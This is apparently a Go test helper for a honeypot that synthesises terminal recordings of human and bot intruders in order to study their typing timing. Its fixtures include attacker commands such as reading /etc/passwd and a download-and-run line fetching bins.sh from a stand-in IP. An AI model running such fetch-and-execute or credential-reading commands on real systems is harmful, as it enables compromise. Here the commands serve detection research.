package behave

import (
	"math/rand/v2"

	"github.com/decnet-go/decnet/internal/honeypot/asciicast"
)

// rec builds a synthetic recording event by event, with a clock.
type rec struct {
	t   float64
	evs []asciicast.Event
	rng *rand.Rand
}

func newRec(seed uint64) *rec { return &rec{rng: rand.New(rand.NewPCG(seed, 7))} }

func (r *rec) at(code, data string) {
	r.evs = append(r.evs, asciicast.Event{Time: r.t, Code: code, Data: data})
}

func (r *rec) wait(s float64) { r.t += s }

// jitter is a uniform wait in [lo, hi] seconds.
func (r *rec) jitter(lo, hi float64) { r.wait(lo + r.rng.Float64()*(hi-lo)) }

func (r *rec) prompt() { r.at("o", "root@srv01:~# ") }

// reply prints a command's output and the next prompt.
func (r *rec) reply(out string) {
	r.wait(0.02)
	r.at("o", "\r\n"+out)
	r.wait(0.01)
	r.prompt()
}

// typist types line key by key, each key echoed, with a per-key delay
// from delay; typo makes it hit a wrong key and erase it now and then.
func (r *rec) typist(line string, delay func(prev, cur rune) float64, typoEvery int) {
	prev := rune(0)
	for i, c := range line {
		if typoEvery > 0 && i > 0 && i%typoEvery == 0 {
			r.wait(delay(prev, 'x'))
			r.at("i", "x")
			r.at("o", "x")
			r.wait(delay('x', 0x7f) + 0.15)
			r.at("i", "\x7f")
			r.at("o", "\b \b")
		}
		r.wait(delay(prev, c))
		r.at("i", string(c))
		r.at("o", string(c))
		prev = c
	}
	r.wait(delay(prev, '\r'))
	r.at("i", "\r")
}

// human is a typist whose delay between two keys depends on the keys
// (some digraphs are fast, others slow), plus jitter: 80–250 ms.
func (r *rec) human(seed uint64) func(prev, cur rune) float64 {
	return func(prev, cur rune) float64 {
		base := 0.08 + float64((uint64(prev)*31+uint64(cur)*17+seed)%120)/1000 // 80–200 ms per digraph
		return base + r.rng.Float64()*0.05
	}
}

var humanSession = []struct{ cmd, out string }{
	{"uname -a", "Linux srv01 5.15.0-91-generic x86_64 GNU/Linux"},
	{"whoami", "root"},
	{"cat /etc/passwd", "root:x:0:0:root:/root:/bin/bash"},
	{"ls -la /tmp", "total 8"},
	{"ps aux | grep ssh", "root 812 sshd"},
	{"ifconfig", "bash: ifconfig: command not found"},
	{"netstat -tlnp", "tcp 0 0 0.0.0.0:22"},
	{"wget http://203.0.113.9/x.sh", "wget: unable to resolve host address"},
	{"exit", ""},
}

// humanRecording: a person typing, thinking 2–6 s between commands,
// correcting typos.
func humanRecording(seed uint64) []asciicast.Event {
	r := newRec(seed)
	d := r.human(1)
	r.prompt()
	for _, c := range humanSession {
		r.jitter(2, 6)
		r.typist(c.cmd, d, 5)
		r.reply(c.out)
	}
	return r.evs
}

// botRecording: a program pasting whole lines as soon as the prompt is
// back.
func botRecording(seed uint64) []asciicast.Event {
	r := newRec(seed)
	r.prompt()
	for _, c := range humanSession {
		r.jitter(0.2, 0.25)
		r.at("i", c.cmd+"\r")
		r.reply(c.out)
	}
	return r.evs
}

// execRecording: ssh host 'command', the shape the ssh service records.
func execRecording() []asciicast.Event {
	r := newRec(1)
	r.at("m", "exec: cd /tmp; wget http://203.0.113.9/bins.sh; chmod +x bins.sh; ./bins.sh")
	r.wait(0.3)
	r.at("o", "wget: unable to resolve host address\n")
	return r.evs
}
